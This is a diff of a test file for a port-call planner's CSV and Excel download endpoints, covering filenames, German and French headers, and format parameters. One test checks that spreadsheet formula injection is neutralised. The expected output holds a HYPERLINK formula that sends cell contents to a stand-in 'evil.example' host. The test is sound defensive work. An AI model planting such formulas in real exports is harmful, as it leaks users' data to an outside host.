@@ -22,11 +22,13 @@ describe.each(DB_TARGETS)('downloads on %s', (target) => {
     const res = await w.planner('GET', `/portcall/download?format=csv&terminal_id=${w.terminal.id}&from=2026-06-30T00:00:00Z&to=2026-07-15T00:00:00Z`);
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toMatch(/text\/csv/);
-    expect(res.headers['content-disposition']).toMatch(/attachment; filename="portcalls-.*\.csv"/);
+    // Named after the days it covers, in the planner's zone (the end is exclusive).
+    expect(res.headers['content-disposition']).toBe('attachment; filename="portcalls-2026-06-30-2026-07-15.csv"');
     expect(res.rawPayload[0]).toBe(0xef);
     const lines = res.rawPayload.toString('utf8').replace(/^\uFEFF/, '').trim().split('\r\n');
     expect(lines).toHaveLength(2);
-    expect(lines[0]).toMatch(/^"Schiff","IMO","Status","Reederei"/);
+    // A German CSV is what a German spreadsheet reads: semicolons between the fields.
+    expect(lines[0]).toMatch(/^"Schiff";"IMO";"Status";"Reederei"/);
     expect(lines[1]).toContain('"2026-07-01 12:00"');
     expect(lines[1]).toContain('"184"');
     const noBom = await w.planner('GET', '/portcall/download?format=csv&bom=false&q=777');
@@ -34,6 +36,19 @@ describe.each(DB_TARGETS)('downloads on %s', (target) => {
     expect(noBom.rawPayload.toString('utf8')).toContain('"777""Q"');
     const tokyo = await w.planner('GET', '/portcall/download?format=csv&timezone=Asia/Tokyo&q=501W');
     expect(tokyo.rawPayload.toString('utf8')).toContain('"2026-07-01 19:00"');
+  });
+
+  it('follows the language asked for, and takes the spec\u2019s type=csv|xls beside format', async () => {
+    const english = (await w.planner('GET', '/portcall/download?type=csv&locale=en&q=501W')).rawPayload.toString('utf8').replace(/^\uFEFF/, '');
+    expect(english.split('\r\n')[0]).toMatch(/^"Vessel","IMO","Status","Vessel operator"/);
+    const xls = await w.planner('GET', '/portcall/download?type=xls&q=501W');
+    expect(xls.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    const tasks = await w.planner('GET', '/portcall-tasks-list/download?type=xls&list=open');
+    expect(tasks.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    const legacy = (await w.planner('GET', '/portcall-tasks-list/download?type=open&format=csv&locale=fr')).rawPayload.toString('utf8').replace(/^\uFEFF/, '');
+    expect(legacy.split('\r\n')[0]).toMatch(/^"Navire";"IMO"/);
+    expect(JSON.stringify((await w.planner('GET', '/portcall/download?type=pdf')).json())).toContain('Use csv or xls');
+    expect((await w.planner('GET', '/portcall/download?locale=it')).statusCode).toBe(400);
   });
 
   it('writes a real Excel workbook', async () => {
@@ -66,7 +81,7 @@ describe.each(DB_TARGETS)('downloads on %s', (target) => {
     const csv = (await w.planner('GET', '/portcall/download?format=csv&q=FX1')).rawPayload.toString('utf8');
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
     expect(csv).toContain(`"'@SUM(1+1)"`);
-    expect(csv).not.toMatch(/(^|[,\n])"[=@+-]/);
+    expect(csv).not.toMatch(/(^|[,;\n])"[=@+-]/);
 
     const xlsx = await w.planner('GET', '/portcall/download?format=xlsx&q=FX1');
     const workbook = new ExcelJS.Workbook();
